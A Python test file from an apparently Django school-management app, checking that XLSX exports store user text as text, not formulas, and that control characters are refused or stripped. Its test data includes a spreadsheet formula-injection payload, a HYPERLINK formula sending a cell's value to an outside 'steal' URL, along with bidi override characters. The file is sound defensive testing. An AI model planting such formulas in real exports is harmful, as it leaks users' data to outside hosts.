"""Safe exports: text from user data is text in every workbook, and control characters are
refused where text comes in (forms, API, imports — see test_import_limits) and stripped where it goes out."""

import io
import zipfile
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import build_xlsx
from roadmaps import exports as roadmap_exports
from schools.forms import SchoolForm
from schools.models import School

from ..factories import RoadmapFactory

FORMULAS = ['=HYPERLINK("http://example.com/steal?x="&A1,"Школа № 1")', "+7 (861) 000", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\n=1+1"]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_formulas_from_user_data_are_written_as_text():
    data = build_xlsx(["Название"], [[text] for text in FORMULAS])
    assert "<f>" not in sheet_xml(data)
    ws = load_workbook(BytesIO(data)).active
    assert [ws.cell(row=i + 2, column=1).data_type for i in range(len(FORMULAS))] == ["s"] * len(FORMULAS)
    assert [ws.cell(row=i + 2, column=1).value for i in range(len(FORMULAS))] == FORMULAS


def test_school_list_export_keeps_a_hyperlink_name_as_text(client_for, methodologist_a, school_a1):
    School.objects.filter(pk=school_a1.pk).update(short_name=FORMULAS[0])
    response = client_for(methodologist_a).get(reverse("schools:school_list_export"))
    assert response.status_code == 200
    assert "<f>" not in sheet_xml(response.content)
    values = [c for row in load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True) for c in row]
    assert FORMULAS[0] in values


def test_control_characters_stored_earlier_are_stripped_on_export(client_for, methodologist_a, school_a1):
    """A name saved before the input checks (or by a path that skipped them) no longer breaks the export."""
    School.objects.filter(pk=school_a1.pk).update(short_name="Школа\u0007 № 1\x1b")
    response = client_for(methodologist_a).get(reverse("schools:school_list_export"))
    assert response.status_code == 200
    values = [c for row in load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True) for c in row]
    assert "Школа № 1" in values


def test_roadmap_export_with_a_formula_title_and_a_bell(db):
    roadmap = RoadmapFactory(activities=1)
    roadmap.activities.update(title='=HYPERLINK("http://example.com","Семинар")\u0007')
    data = roadmap_exports.roadmap_xlsx(roadmap)
    assert "<f>" not in sheet_xml(data)
    values = [c for row in load_workbook(BytesIO(data)).active.iter_rows(values_only=True) for c in row]
    assert '=HYPERLINK("http://example.com","Семинар")' in values


# ---- control characters refused on input ----------------------------------------------------------------------

def test_form_refuses_a_control_character_at_its_field(school_a1):
    form = SchoolForm(instance=school_a1)
    data = {name: value for name, value in form.initial.items() if value is not None and name in form.fields}
    data["short_name"] = "Школа\u0007 № 1"
    form = SchoolForm(data, instance=school_a1)
    assert not form.is_valid()
    assert form.errors["short_name"] == ["Текст содержит недопустимый управляющий символ (код 7): удалите его."]
    data["short_name"] = "Школа № 1"
    assert SchoolForm(data, instance=school_a1).is_valid()


@pytest.mark.parametrize("char", ["\u0007", "\x00", "\x1b", "\x7f", "\x85", "\u202e", "\u2066"])
def test_api_refuses_control_characters(client_for, methodologist_a, school_a1, char):
    response = client_for(methodologist_a).patch(f"/api/v1/schools/{school_a1.pk}/", {"short_name": f"Ш{char}Ш"},
                                                 content_type="application/json")
    assert response.status_code == 400
    assert f"недопустимый управляющий символ (код {ord(char)})" in response.content.decode()
    school_a1.refresh_from_db()
    assert char not in school_a1.short_name


def test_tabs_and_line_breaks_are_ordinary_text(client_for, methodologist_a, school_a1):
    response = client_for(methodologist_a).patch(f"/api/v1/schools/{school_a1.pk}/",
                                                 {"address": "ул. Красная, 1\r\nкорпус 2"},
                                                 content_type="application/json")
    assert response.status_code == 200, response.content
